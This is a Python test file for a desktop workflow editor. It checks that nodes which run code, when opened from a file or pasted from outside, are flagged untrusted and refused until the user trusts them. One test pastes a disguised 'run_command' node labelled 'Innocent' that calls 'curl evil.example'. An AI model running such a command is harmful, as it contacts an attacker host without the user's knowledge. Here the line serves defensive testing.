"""The trust banner in the editor: a file opened in the editor or foreign JSON pasted with
nodes that run code is not trusted; the banner lists them, "Trust and enable" and editing
a node's code trust them, and running is refused until then. Disabled node types are
greyed out in the palette."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from PySide6.QtCore import QMimeData, QPoint, Qt
from PySide6.QtGui import QGuiApplication

from glyphic_desktop.engine.trust import refusal_message, refused_nodes
from glyphic_desktop.paths import resources_dir
from glyphic_desktop.store.repositories.workflows import WorkflowRepository

from .helpers import build_chain, make_window

EXAMPLE = resources_dir() / "examples" / "loop-over-items.json"
CODE_NODE = "node-4"  # "Sum the lines" (code) in the example


def _copied_example(tmp_path: Path) -> Path:
    path = tmp_path / "from-a-colleague.json"
    shutil.copy(EXAMPLE, path)
    return path


def _stored(db, user_id, name):
    with db.session() as session:
        return WorkflowRepository(session, user_id).resolve(name)


def _banner_shown(window) -> bool:
    return window.trust_banner.isVisible()


def test_opening_a_file_shows_the_banner_refuses_the_run_and_the_button_trusts(
    qtbot, db, user_id, tmp_path
):
    window = make_window(qtbot, db)
    assert not _banner_shown(window)
    assert window.import_file(str(_copied_example(tmp_path)))
    qtbot.waitUntil(lambda: _banner_shown(window))
    text = window.trust_banner.label.text()
    assert "'Sum the lines' (code)" in text and "opened from-a-colleague.json" in text
    top = QPoint(0, 0)
    assert window.trust_banner.mapTo(window, top).y() < window.view.mapTo(window, top).y()

    # Running is refused with the same line as `glyphic run`, before anything is saved.
    assert window.run() is False and not window.is_running()
    ((title, message, _),) = window.prompts.errors()
    nodes = refused_nodes(window.model.doc, {CODE_NODE}, window.registry)
    assert title == "The workflow cannot run"
    assert message == refusal_message(
        "Loop over items", nodes, "opened from-a-colleague.json in the editor"
    )
    assert window.workflow_id is None

    # Saved: the stored workflow is untrusted too (the agent and the CLI refuse it).
    window.prompts.text_answers = ["Colleague's loop"]
    assert window.save()
    stored = _stored(db, user_id, "Colleague's loop")
    assert stored.untrusted_nodes == (CODE_NODE,)
    assert stored.untrusted_source == "opened from-a-colleague.json in the editor"

    # Opened again in another window: the banner comes from the database.
    other = make_window(qtbot, db)
    assert other.open_workflow(stored.id)
    qtbot.waitUntil(lambda: _banner_shown(other))
    qtbot.mouseClick(other.trust_banner.button, Qt.MouseButton.LeftButton)
    assert not _banner_shown(other)
    assert _stored(db, user_id, "Colleague's loop").trusted
    assert other.run()
    qtbot.waitUntil(lambda: not other.is_running(), timeout=30_000)
    assert other.last_run_result.status == "completed", other.last_run_error


def test_the_bundled_examples_open_trusted(qtbot, db):
    window = make_window(qtbot, db)
    assert window.import_file(str(EXAMPLE))
    assert window.trust_banner.untrusted == set()
    assert not _banner_shown(window)


def test_editing_the_code_of_an_untrusted_node_trusts_it(qtbot, db, user_id, tmp_path):
    window = make_window(qtbot, db)
    assert window.import_file(str(_copied_example(tmp_path)))
    window.prompts.text_answers = ["Edited loop"]
    assert window.save()
    qtbot.waitUntil(lambda: _banner_shown(window))

    window.focus_node(CODE_NODE)
    window.inspector_dock.show_node(CODE_NODE)
    editor = window.inspector_dock.panel.form.editors["code"].input
    editor.setFocus()
    editor.moveCursor(editor.textCursor().MoveOperation.End)
    qtbot.keyClick(editor, Qt.Key.Key_Return)
    qtbot.keyClicks(editor, "# checked by me")
    qtbot.keyClick(editor, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
    assert window.model.node(CODE_NODE).data.fields["code"].endswith("# checked by me")

    qtbot.waitUntil(lambda: not _banner_shown(window))
    assert window.trust_banner.untrusted == set()
    assert _stored(db, user_id, "Edited loop").trusted  # stored at once, before a save


def test_editing_another_field_does_not_trust(qtbot, db, tmp_path):
    window = make_window(qtbot, db)
    assert window.import_file(str(_copied_example(tmp_path)))
    qtbot.waitUntil(lambda: _banner_shown(window))
    window.inspector_dock.show_node(CODE_NODE)
    label = window.inspector_dock.panel.label_edit
    label.setFocus()
    label.selectAll()
    qtbot.keyClicks(label, "Renamed")
    qtbot.keyClick(label, Qt.Key.Key_Return)
    assert window.model.node(CODE_NODE).data.label == "Renamed"
    assert window.trust_banner.untrusted == {CODE_NODE}
    qtbot.waitUntil(lambda: "'Renamed' (code)" in window.trust_banner.label.text())


def _set_clipboard_text(text: str) -> None:
    mime = QMimeData()
    mime.setText(text)
    QGuiApplication.clipboard().setMimeData(mime)


def test_pasting_foreign_json_with_a_code_node_marks_it_untrusted(qtbot, db, user_id):
    window = make_window(qtbot, db)
    build_chain(window, [("manual", {}), ("log", {"message": "hi"})])
    window.prompts.text_answers = ["Pasted into"]
    assert window.save()
    assert not _banner_shown(window)
    foreign = {
        "nodes": [
            {
                "id": "7",
                "type": "run_command",
                "data": {"label": "Innocent", "fields": {"command": ["curl", "evil.example"]}},
            },
            {"id": "8", "type": "log", "data": {"label": "Plain", "fields": {}}},
        ],
        "edges": [],
    }
    _set_clipboard_text(json.dumps(foreign))  # as a browser or a chat would
    window.view.setFocus()
    qtbot.keyClick(window.view, Qt.Key.Key_V, Qt.KeyboardModifier.ControlModifier)
    qtbot.waitUntil(lambda: _banner_shown(window))
    (pasted,) = [n for n in window.model.doc.nodes if n.type == "run_command"]
    assert window.trust_banner.untrusted == {pasted.id}
    assert "'Innocent' (run_command)" in window.trust_banner.label.text()
    # Stored at once: another process running the saved workflow refuses it too.
    stored = _stored(db, user_id, "Pasted into")
    assert stored.untrusted_nodes == (pasted.id,)
    assert stored.untrusted_source == "pasted in the editor"
    assert window.run() is False


def test_copy_and_paste_inside_the_editor_is_not_foreign(qtbot, db):
    window = make_window(qtbot, db)
    (code_id,) = build_chain(window, [("code", {"code": "result = 1"})])
    window.scene.select_nodes([code_id])
    window.copy()
    window.paste()
    assert len(window.model.doc.nodes) == 2
    assert window.trust_banner.untrusted == set()
    assert not _banner_shown(window)


def test_disabled_node_types_are_greyed_out_in_the_palette(qtbot, db, user_id, monkeypatch):
    from glyphic_desktop.engine.disabled_nodes import write_setting

    monkeypatch.setenv("GLYPHIC_DISABLE_NODES", "code")
    with db.session() as session:
        write_setting(session, user_id, ["run_command"])
    window = make_window(qtbot, db)
    palette = window.palette_dock
    for key, why in (("code", "GLYPHIC_DISABLE_NODES"), ("run_command", "disabled_node_types")):
        item = palette.item_for(key)
        assert not item.flags() & Qt.ItemFlag.ItemIsEnabled
        assert not item.flags() & Qt.ItemFlag.ItemIsDragEnabled
        assert why in item.toolTip(0)
    assert palette.item_for("log").flags() & Qt.ItemFlag.ItemIsEnabled
    palette.search.setText("code")
    palette.search.setFocus()
    qtbot.keyClick(palette.search, Qt.Key.Key_Return)  # Enter adds the first enabled type
    assert all(node.type != "code" for node in window.model.doc.nodes)


def test_trusting_from_the_terminal_is_not_undone_by_a_save_in_the_editor(
    qtbot, db, user_id, tmp_path
):
    window = make_window(qtbot, db)
    assert window.import_file(str(_copied_example(tmp_path)))
    window.prompts.text_answers = ["Trusted elsewhere"]
    assert window.save()
    stored = _stored(db, user_id, "Trusted elsewhere")
    assert not stored.trusted
    with db.session() as session:  # what `glyphic trust` does meanwhile
        WorkflowRepository(session, user_id).mark_trusted(stored.id)
    window.add_node("log")
    assert window.save()
    assert _stored(db, user_id, "Trusted elsewhere").trusted
    # Save As makes a new workflow: the nodes the editor still holds untrusted go with it.
    window.prompts.text_answers = ["Copy of it"]
    assert window.save_as()
    assert _stored(db, user_id, "Copy of it").untrusted_nodes == (CODE_NODE,)
